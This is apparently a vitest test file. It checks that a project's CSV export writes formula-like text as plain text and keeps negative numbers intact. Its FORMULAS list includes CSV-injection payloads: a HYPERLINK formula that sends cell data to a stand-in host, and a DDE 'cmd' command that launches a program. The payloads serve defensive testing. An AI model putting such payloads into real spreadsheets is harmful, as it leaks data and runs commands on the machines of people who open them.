// Tables whose every text begins as a spreadsheet's formula begins, read back by a CSV reader that is not ours (Python's
// csv module, strict): no cell is a formula, no text is lost, numbers are the report's numbers.
// Source for the signs: OWASP, 'CSV injection' (= + - @, tab, carriage return); their full-width forms from memory.

import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../../core/report/schema.ts';
import { csvFiles } from '../../../core/sheets/csv.ts';
import { solve } from '../../outside/product-solved.ts';

const FORMULAS = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '-5',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '＝1+1',
  '|calc',
  '%0A=1',
] as const;
/** What a spreadsheet may take for the beginning of a formula. A quote first is text. */
const FORMULA = /^\s*[=+\-@|%＝＋－＠]/;

/** Rows of cells by table, as a program that is not ours reads them. */
function readBack(tables: Readonly<Record<string, string>>): Record<string, string[][]> {
  const program =
    'import csv, io, json, sys\n' +
    'tables = json.load(sys.stdin)\n' +
    'read = lambda text: list(csv.reader(io.StringIO(text.removeprefix("\\ufeff"), newline=""), strict=True))\n' +
    'print(json.dumps({name: read(text) for name, text in tables.items()}))';
  const input = JSON.stringify(tables);
  return JSON.parse(
    execFileSync('python3', ['-c', program], { input, encoding: 'utf8', maxBuffer: 1 << 28 }),
  ) as Record<string, string[][]>;
}

/** The same report with every text of it replaced, keys of records too where they are texts of the plan. */
function renamed(value: unknown, to: string): unknown {
  if (typeof value === 'string') return to;
  if (Array.isArray(value)) return value.map((each) => renamed(each, to));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, renamed(inner, to)]));
}

/** The same report with every number below zero. */
function negative(value: unknown): unknown {
  if (typeof value === 'number') return -Math.abs(value) - 0.25;
  if (Array.isArray(value)) return value.map(negative);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, negative(inner)]));
}

describe('tables and formulas', () => {
  let report: Report;
  beforeAll(async () => {
    const solved = await solve(readFileSync('demo-data/thimble-cottage.copewright.json', 'utf8'));
    report = solved.report;
  });

  it.each(FORMULAS)('a text that begins %j is text in every column of every table, and whole', (formula) => {
    const before = readBack(csvFiles(report));
    const after = readBack(csvFiles(renamed(report, formula) as Report));
    expect(Object.keys(before).length).toBeGreaterThan(5);
    let texts = 0;
    for (const [name, [heading, ...were]] of Object.entries(before)) {
      const [same, ...rows] = after[name]!;
      expect(same).toEqual(heading);
      expect(rows.length, name).toBe(were.length);
      expect(rows.length, name).toBeGreaterThan(0);
      for (const [i, row] of rows.entries()) {
        expect(row.length, `${name} ${i}`).toBe(heading!.length);
        for (const [k, cell] of row.entries()) {
          const where = `${name}, row ${i}, ${heading![k]}: ${JSON.stringify(cell)}`;
          // A number, or a word of the table's own.
          if (cell === were[i]![k]) continue;
          texts += 1;
          expect(FORMULA.test(cell), where).toBe(false);
          expect(cell.includes(formula), where).toBe(true);
        }
      }
    }
    expect(texts).toBeGreaterThan(100);
  });

  it('numbers stay numbers, negative ones too, each the very number of the report', () => {
    let numbers = 0;
    for (const [name, [heading, ...rows]] of Object.entries(readBack(csvFiles(negative(report) as Report)))) {
      for (const row of rows)
        for (const [k, cell] of row.entries()) {
          if (!/\((mm|deg)\)|count|price|sum$/.test(heading![k]!) || cell === '') continue;
          expect(cell, `${name}, ${heading![k]}`).toMatch(/^-\d+(\.\d+)?$/);
          numbers += 1;
        }
    }
    expect(numbers).toBeGreaterThan(100);
    const [heading, ...rows] = readBack(csvFiles(report))['boards.csv']!;
    const at = heading!.indexOf('overall (mm)');
    expect(rows.map((row) => Number(row[at]))).toEqual(report.pieces.map((piece) => piece.overallMm));
  });
});
